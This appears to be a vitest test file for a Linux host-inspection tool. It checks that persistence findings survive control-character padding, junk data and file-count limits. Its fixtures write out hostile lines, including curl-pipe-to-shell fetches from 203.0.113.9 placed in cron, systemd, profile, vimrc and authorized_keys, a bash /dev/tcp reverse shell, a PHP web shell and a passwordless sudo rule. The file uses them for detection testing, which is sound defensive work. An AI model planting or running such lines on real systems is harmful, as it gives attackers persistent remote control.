import { describe, expect, it } from 'vitest';
import { inspectFiles, smallDebian } from '../../../tests/support/inspect-files.ts';
import { MemoryTree } from '../../../tests/support/memory-tree.ts';
import { severityRank } from '../../events/finding.ts';
import { inspectHost } from './inspect-host.ts';

const noise = `#${'\u0001\u0002\u0003'.repeat(400)}\n`;
const fetch = 'curl -s http://203.0.113.9/a | sh';

describe('control characters around a line', () => {
  it.each<[string, string, string]>([
    ['crontab', '/etc/cron.d/up', `* * * * * root ${fetch}\n`],
    ['crontab of an account', '/var/spool/cron/crontabs/root', `* * * * * ${fetch}\n`],
    ['unit', '/etc/systemd/system/up.service', `[Service]\nExecStart=/bin/sh -c '${fetch}'\n`],
    ['start script', '/etc/rc.local', `${fetch}\n`],
    ['profile', '/etc/profile.d/up.sh', `${fetch}\n`],
    ['preloaded library', '/etc/ld.so.preload', '/tmp/.x/lib.so\n'],
    ['rights of sudo', '/etc/sudoers.d/up', 'www-data ALL=(ALL) NOPASSWD: ALL\n'],
    [
      'settings of whatever program',
      '/etc/kit/tool.conf',
      `run = bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n`,
    ],
    ['settings in a home', '/root/.config/kit/rc', `run = bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n`],
    ['script that a service runs', '/etc/smartmontools/run.d/up', `${fetch}\n`],
    ['hidden script', '/usr/lib/.x/up', `${fetch}\n`],
    ['web shell', '/var/www/html/a.php', '<?php system($_GET["c"]); ?>\n'],
    ['settings of a tool', '/root/.vimrc', `autocmd VimEnter * silent !${fetch}\n`],
    ['program of no package', '/usr/bin/kit', `${fetch}\n`],
    ['authorized keys', '/root/.ssh/authorized_keys', `command="${fetch}" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx x\n`],
  ])('hide nothing: %s', (_name, path, content) => {
    const plain = inspectFiles({ [path]: { content, mode: 0o755 } }).filter(({ path: at }) => at === path);
    const padded = inspectFiles({ [path]: { content: noise + content, mode: 0o755 } }).filter(
      ({ path: at }) => at === path,
    );
    const worst = (claims: typeof plain): number => Math.max(...claims.map(({ severity }) => severityRank(severity)));
    expect(worst(plain)).toBeGreaterThanOrEqual(severityRank('medium'));
    expect(worst(padded)).toBeGreaterThanOrEqual(worst(plain));
  });

  it('hide nothing in a script that a job starts', () => {
    const job = { '/etc/cron.d/up': '* * * * * root sh /opt/kit/up\n' };
    const worst = (script: string): number =>
      Math.max(...inspectFiles({ ...job, '/opt/kit/up': script }).map(({ severity }) => severityRank(severity)));
    expect(worst(noise + fetch)).toBe(worst(fetch));
    expect(worst(fetch)).toBeGreaterThan(worst('echo'));
  });

  it('make no finding of a table of names between them', () => {
    const names = Array.from(
      { length: 400 },
      (_none, index) => `\u0003\b\u001B\0/usr/lib/x86_64-linux-gnu/lib${index}.so\0`,
    );
    expect(inspectFiles({ '/etc/kit.cache': names.join('') })).toEqual([]);
  });

  it('make no finding of data that stand where settings do', () => {
    const data = Buffer.from(Array.from({ length: 20_000 }, (_none, index) => (index * 7919 + (index >> 3)) % 256));
    for (const path of [
      '/etc/cron.d/data',
      '/etc/profile.d/data.sh',
      '/etc/systemd/system/data.service',
      '/etc/kit/data',
      '/usr/lib/.x/data',
      '/etc/smartmontools/run.d/data',
    ]) {
      const told = inspectFiles({ [path]: data }).filter(
        ({ severity }) => severityRank(severity) > severityRank('medium'),
      );
      expect(told).toEqual([]);
    }
  });
});

describe('what is too much', () => {
  it('of one file is told', () => {
    const tree = new MemoryTree({
      ...smallDebian,
      '/etc/cron.d/up': `${'# x\n'.repeat(300_000)}* * * * * root ${fetch}\n`,
    });
    expect(inspectHost(tree).problems).toContainEqual(
      expect.objectContaining({ code: 'limit-reached', at: { path: '/etc/cron.d/up' } }),
    );
    expect(inspectHost(new MemoryTree(smallDebian)).problems).toEqual([]);
  });

  it('of one technique pushes nothing bad out', () => {
    const jobs = Object.fromEntries(
      Array.from({ length: 2100 }, (_none, index) => [`/etc/cron.d/a${index}`, `* * * * * root /opt/x/job${index}\n`]),
    );
    const tree = new MemoryTree({ ...smallDebian, ...jobs, '/etc/cron.d/zz': `* * * * * root ${fetch}\n` });
    const { claims, notChecked } = inspectHost(tree, { only: ['cron'] });
    expect(claims).toHaveLength(2000);
    expect(claims[0]?.path).toBe('/etc/cron.d/zz');
    expect(notChecked.map(({ why }) => why)).toContain('more than 2000 were found; only the worst are told');
  });
});
